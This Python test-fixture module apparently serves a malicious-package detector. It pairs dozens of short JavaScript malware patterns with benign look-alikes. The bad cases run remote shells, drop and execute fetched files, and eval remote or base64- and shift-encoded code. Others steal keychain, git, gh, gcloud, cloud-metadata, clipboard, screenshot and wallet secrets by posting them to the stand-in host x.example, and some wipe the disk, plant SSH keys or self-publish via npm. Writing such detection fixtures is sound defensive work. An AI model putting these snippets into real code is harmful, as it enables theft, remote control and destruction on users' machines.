"""JavaScript that harms by what it hands on: keepers of secrets, files that were fetched, callbacks.

Families of what was found in registries, in words of our own, each with a twin that only looks like it. No
address leads anywhere, and nothing of it is executed.
"""

from corpora.inspection_case import bad, good
from corpora.inspection_flows import cases

_SCRIPTS = r"""
## a shell that is given an answer = js-remote-control
const { spawn } = require('child_process');
fetch('https://x.example/o').then((r) => r.text()).then((order) => spawn('sh', ['-c', order]));
## a program that a socket names = js-remote-control
const net = require('net'), { spawn } = require('child_process');
net.connect(1, 'x.example').on('data', (line) => {
  const [a, ...b] = line.toString().split(' ');
  spawn(a, b);
});
## a command out of a request = js-remote-control
const { exec } = require('child_process');
module.exports = (req, res) => exec(req.query.run, (error, out) => res.send(out));
## a fetched file that is loaded = js-dropper
const fs = require('fs'), axios = require('axios');
axios.get('https://x.example/a').then(({ data }) => {
  const place = __dirname + '/extra.js';
  fs.writeFileSync(place, data);
  require(place);
});
## a fetched file that is forked = js-dropper
const fs = require('fs'), https = require('https'), { fork } = require('child_process');
const out = fs.createWriteStream('/tmp/marker.js');
https.get('https://x.example/a', (res) => {
  res.pipe(out);
  out.on('finish', () => fork('/tmp/marker.js'));
});
## a program aside that was fetched by a helper = js-dropper
const fs = require('fs'), os = require('os'), https = require('https');
const { execFile } = require('child_process');
function bring(from, to, done) {
  https.get(from, (res) => res.pipe(fs.createWriteStream(to)).on('close', done));
}
const place = os.tmpdir() + '/marker';
bring('https://x.example/a', place, () => execFile(place));
## a fetched script that an interpreter runs = js-dropper
const request = require('request'), fs = require('fs'), { exec } = require('child_process');
request('https://x.example/a', (e, r, body) => {
  fs.writeFileSync('./marker.py', body);
  exec('python3 ./marker.py');
});
## a message that is made a function = js-remote-code
const link = new WebSocket('wss://x.example');
link.onmessage = ({ data }) => { const { body } = JSON.parse(data); Function(body)(); };
## a message that a virtual machine is given = js-remote-code
const WebSocket = require('ws'), vm = require('node:vm');
const link = new WebSocket('wss://x.example');
link.onmessage = ({ data }) => new vm.Script(JSON.parse(data).body).runInNewContext({ require });
## a loader of its own that is given a decoded name = code-hidden-name
import { createRequire } from 'module';
const need = createRequire(import.meta.url);
const { execSync } = need(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());
## a package that publishes others with itself in them = js-spreads
const fs = require('fs'), { execSync } = require('child_process');
const said = JSON.parse(fs.readFileSync('package/package.json'));
said.scripts = { ...said.scripts, postinstall: 'node own.js' };
fs.writeFileSync('package/package.json', JSON.stringify(said));
execSync('npm publish', { cwd: 'package' });
## a name's record that is run = js-remote-code
const { resolveTxt } = require('dns').promises;
resolveTxt('x.example').then((rows) => eval(rows.flat().join('')));
## an answer in an address of data = js-remote-code
const { code } = await (await fetch('https://x.example/a')).json();
await import('data:text/javascript,' + code);
## an answer by a callback of its own = js-remote-code
const https = require('https');
function ask(place, done) {
  https.get(place, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => done(b)); });
}
ask('https://x.example/a', (said) => new Function(said)());
## a function made by reflection = js-decoded-code
Reflect.construct(Function, [atob('cHJvY2Vzcy5leGl0KCk=')])();
## letters that were moved on = js-decoded-code
const abc = 'abcdefghijklmnopqrstuvwxyz';
const said = 'surfhvv'.split('').map((c) => abc[(abc.indexOf(c) + 23) % 26]).join('');
eval(said);
## a password out of a keychain = js-steals
const { execSync } = require('child_process');
const said = execSync('security find-generic-password -wa Browser').toString();
fetch('https://x.example/k', { method: 'POST', body: said });
## what git keeps = js-steals
const { spawnSync } = require('child_process'), https = require('https');
const said = spawnSync('git', ['credential', 'fill'], { input: 'host=x' }).stdout;
https.request('https://x.example', { method: 'POST' }).end(said);
## the keys of two vendors = js-steals
const run = require('util').promisify(require('child_process').exec), axios = require('axios');
const orders = ['gh auth token', 'gcloud auth print-access-token'];
const all = orders.map((order) => run(order).then((r) => r.stdout));
Promise.all(all).then((keys) => axios.post('https://x.example/k', keys));
## the clipboard again and again = js-steals
const { execSync } = require('child_process'), http = require('http');
setInterval(() => {
  const now = execSync('pbpaste').toString();
  http.request('http://x.example').end(now);
}, 900);
## pictures of the screen = js-steals
const shot = require('screenshot-desktop'), axios = require('axios');
shot().then((picture) => axios.post('https://x.example/p', picture));
## a key that a wallet is given = js-steals
class Keypair { constructor(secretKey) { tell(secretKey); } }
function tell(said) { fetch('https://x.example/c', { method: 'POST', headers: { 'x-id': said } }); }
## keys of a cloud's host = js-steals
const http = require('http'), https = require('https');
const host = '169.254.169.254';
function ask(path, done) {
  http.get({ host, path }, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => done(b)); });
}
ask('/latest/meta-data/iam/security-credentials/x', (keys) => https.request('https://x.example').end(keys));
## a disk that is gone through = js-destroys
const fs = require('fs'), path = require('path');
function walk(place) {
  for (const name of fs.readdirSync(place)) {
    const file = path.join(place, name);
    if (fs.statSync(file).isDirectory()) walk(file); else fs.writeFileSync(file, '');
  }
}
walk('/');
## a key that lets somebody in = js-persistence
const fs = require('fs'), path = require('path'), os = require('os');
const key = 'ssh-rsa AAAAB3NzaC1yc2E demo';
fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), key + '\n');
## a copy of itself that is started later = js-persistence
const fs = require('fs'), { execFile } = require('child_process');
fs.copyFileSync(__filename, process.env.APPDATA + '/marker.js');
execFile('schtasks', ['/create', '/tn', 'marker', '/sc', 'minute', '/tr', 'node marker.js']);
## another package beside it that a server changes = js-alters
const fs = require('fs'), path = require('path'), https = require('https');
const place = path.join(process.cwd(), '..', 'wallets', 'index.js');
https.get('https://x.example/p', (r) => {
  let b = '';
  r.on('data', (d) => b += d);
  r.on('end', () => fs.writeFileSync(place, b));
});
## the archive of an installed program = js-alters
const fs = require('fs'), os = require('os'), path = require('path');
const place = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'x', 'app.asar');
fs.writeFileSync(place, fs.readFileSync('./marker'));
## a library of its own that Windows loads = js-command
const path = require('path');
require('child_process').spawn('rundll32', [path.join(__dirname, 'a.dll') + ',main']);
## a command that is put together before = js-command
const cp = require('child_process');
const parts = ['cur', 'l -s https://x.example/a', ' | sh'];
cp['exec' + 'Sync'](parts.join(''));
## mail that is copied = js-copies-mail
exports.send = ({ to, html }) => mailer.sendMail({ from: me, to, bcc: 'copy@gifts.invalid', html });
"""

_PLAIN = r"""
## a shell that is given an order of its own
const { spawn } = require('child_process');
fetch('https://x.example/o').then((r) => r.text()).then((name) => spawn('sh', ['-c', 'echo hello', name]));
## a program by a request's number
const { exec } = require('child_process');
module.exports = (req, res) => exec('uptime', (error, out) => res.send(out + req.query.page));
## a fetched list that is written and another file that is loaded
const fs = require('fs'), axios = require('axios');
axios.get('https://x.example/a').then(({ data }) => {
  const place = __dirname + '/names.json';
  fs.writeFileSync(place, data);
  return require('./other.json');
});
## fetched data that is loaded
const fs = require('fs'), path = require('path'), axios = require('axios');
const place = path.join(__dirname, 'newest.json');
axios.get('https://x.example/a').then(({ data }) => {
  fs.writeFileSync(place, JSON.stringify(data));
  return require(place);
});
## a fetched program that is asked for its version
const fs = require('fs'), path = require('path'), https = require('https'), cp = require('child_process');
const place = path.join(__dirname, 'bin', 'tool');
https.get('https://x.example/tool', (res) => res.pipe(fs.createWriteStream(place)).on('close', () => {
  fs.chmodSync(place, 0o755);
  console.log(cp.execFileSync(place, ['--version']).toString());
}));
## a message that is shown
const link = new WebSocket('wss://x.example');
link.onmessage = ({ data }) => { document.title = JSON.parse(data).body; };
## a template that a virtual machine is given
const vm = require('node:vm'), fs = require('fs');
fetch('https://x.example/names').then((r) => r.json()).then((names) => {
  new vm.Script(fs.readFileSync('page.js', 'utf8')).runInNewContext({ names });
});
## a package that publishes itself
const { execSync } = require('child_process');
execSync('npm run build && npm publish --access public');
exports.scripts = { test: 'node test.js' };
## a name's record that is compared
const { resolveTxt } = require('dns').promises;
resolveTxt('x.example').then((rows) => rows.flat().includes('v=1'));
## letters that are moved on and shown
const abc = 'abcdefghijklmnopqrstuvwxyz';
console.log('uryyb'.split('').map((c) => abc[(abc.indexOf(c) + 13) % 26]).join(''));
## a keychain that is read and shown
const { execSync } = require('child_process');
const https = require('https');
https.get('https://x.example/health');
console.log(execSync('security find-generic-password -s own').toString().length);
## one vendor's key for that vendor
const { execSync } = require('child_process'), axios = require('axios'), path = require('path');
const key = execSync('gh auth token').toString().trim();
module.exports = { key, root: path.join(process.cwd(), 'node_modules') };
## a key that a service knows people by
class Client { constructor(secretKey) { this.key = secretKey; } }
exports.ask = (secretKey) => fetch('https://x.example/v1', { headers: { authorization: secretKey } });
## a wallet that signs
class Wallet {
  constructor(privateKey) { this.k = privateKey; }
  sign(text) { return hash(this.k, text); }
}
const rates = () => fetch('https://x.example/rates');
## keys of a cloud's host for that host
const http = require('http');
const host = '169.254.169.254';
function ask(path, done) {
  http.get({ host, path }, (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => done(b)); });
}
ask('/latest/meta-data/iam/security-credentials/', (role) => ask('/latest/meta-data/' + role, console.log));
## a folder that is gone through and counted
const fs = require('fs'), path = require('path');
function walk(place) { return fs.readdirSync(place).map((name) => path.join(place, name)).length; }
console.log(walk('/'));
fs.writeFileSync('count.txt', '1');
## a copy of itself in its folder
const fs = require('fs');
fs.copyFileSync(__filename, __dirname + '/copy.js');
## a file beside it that a server gives
const fs = require('fs'), path = require('path'), https = require('https');
const place = path.join(__dirname, '..', 'data', 'names.json');
https.get('https://x.example/p', (r) => {
  let b = '';
  r.on('data', (d) => b += d);
  r.on('end', () => fs.writeFileSync(place, b));
});
## a page that Windows opens
require('child_process').spawn('rundll32', ['url.dll,FileProtocolHandler', 'https://x.example']);
## mail with a copy that its caller names
exports.send = ({ to, bcc, html }) => mailer.sendMail({ from: me, to, bcc, html });
mailer.sendMail({ to: 'you@x.example', bcc: 'one@example.org' });
## a part of its own that is loaded by a name that was made
const made = (parts) => String.fromCharCode(...parts);
exports.part = (parts) => require('./' + made(parts) + '.js');
## a function of its own that parts what was decoded
const { execFileSync } = require('child_process');
function split(said, sign) { return said.toString().split(sign); }
const files = split(execFileSync('git', ['ls-files', '-z']), '\0');
module.exports = split(Buffer.from('YSBi', 'base64'), ' ').concat(files);
## a loader that is lent, and a function that is not one
const need = require;
function filled(text, from) { return text === from ? filled(atob(text), need) : text; }
exports.filled = (text) => filled(atob(text), need);
## a class by reflection
class A {}
module.exports = Reflect.construct(A, [atob('eA==')]);
## a command that is put together and lists
const cp = require('child_process');
const parts = ['ls', ' -l ', 'src'];
cp.execSync(parts.join(''));
"""

CARRIED_BAD = [bad(f"a script with {title}", "a.js", said, code) for title, code, said in cases(_SCRIPTS)]
CARRIED_GOOD = [good(f"a script with {title}", "a.js", said) for title, _, said in cases(_PLAIN)]
